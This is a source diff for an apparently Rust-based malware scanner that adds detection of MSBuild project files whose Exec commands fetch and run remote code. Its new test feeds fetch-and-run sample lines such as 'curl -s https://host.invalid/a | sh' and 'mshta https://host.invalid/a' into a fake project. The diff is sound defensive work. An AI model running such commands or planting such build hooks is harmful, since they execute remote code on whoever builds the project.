@@ -10,6 +10,7 @@ use crate::{Findings, commands, flat};
 use lazaret_model::{Class, Family, Finding, Part, Severity};
 
 patterns! {
+    BUILT = r#"(?s)<(?:\w+:)?Exec\b[^<>]*?\bCommand\s*=\s*(?:"(?P<double>[^"]*)"|'(?P<single>[^']*)')"#;
     MENTION = r"(?i)eventconsumer";
     CONSUMER = r#"(?i)\binstance\s+of\s+(?:commandline|activescript)eventconsumer\b[^{};]{0,200}\{[^{}]*"#;
     // A program of Windows that does what its arguments say, or anything in a folder in which anybody may write.
@@ -72,6 +73,12 @@ pub(super) fn look(part: &Part, bytes: &[u8], offset: u64, findings: &mut Findin
             told.extend(job(&strings, goes_on).map(|value| (value, JOBS)));
         } else if part.is("xml") {
             told.extend(task(&text, goes_on).map(|value| (value, TASKS)));
+            if let Some(command) = built(&text) {
+                let message =
+                    "a command of the project, which fetches something and runs it, runs whenever it is built";
+                let found = Finding::new("hooks.build", ID, Severity::Medium, Family::Behaviour, message);
+                findings.add(found.with("value", cut(&command)).technique("T1127.001").technique("T1059"));
+            }
         }
         if objects(part) {
             told.extend(consumer(part, &text).map(|value| (value, OBJECTS)));
@@ -139,6 +146,15 @@ fn task(text: &str, goes_on: bool) -> Option<String> {
         }
     }
     runs.into_iter().find(|run| TASK.is_match(run) || commands::fetch(run))
+}
+
+/// A command of a project of MSBuild, which needs no namespace since version 15 and goes by no name.
+fn built(text: &str) -> Option<String> {
+    if !text.contains("<Project") && !text.contains(":Project") {
+        return None;
+    }
+    let commands = BUILT.captures_iter(text).filter_map(|found| found.name("double").or_else(|| found.name("single")));
+    commands.map(|command| without_entities(command.as_str())).find(|command| commands::fetch(command))
 }
 
 /// An object of WMI that runs a command or a script at an event.
@@ -367,6 +383,25 @@ mod tests {
         }
         check("a.xml", "xml", task("C:\\Program Files\\App\\app.exe", "/update").as_bytes(), &[]);
         check("a.xml", "xml", b"<Task><Exec><Command>powershell</Command></Exec></Task>", &[]);
+    }
+
+    #[test]
+    fn projects_that_fetch_and_run_something_are_found_by_any_name() {
+        let project = |command: &str| {
+            format!(
+                "<Project><Target Name=\"a\" BeforeTargets=\"Build\"><Exec Command=\"{command}\"/></Target></Project>"
+            )
+        };
+        for command in [
+            "powershell -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
+            "curl -s https://host.invalid/a | sh",
+            "mshta https://host.invalid/a",
+        ] {
+            check("a.xml", "xml", project(command).as_bytes(), &["hooks.build"]);
+        }
+        for command in ["npm run build", "powershell -File build.ps1"] {
+            check("a.xml", "xml", project(command).as_bytes(), &[]);
+        }
     }
 
     #[test]
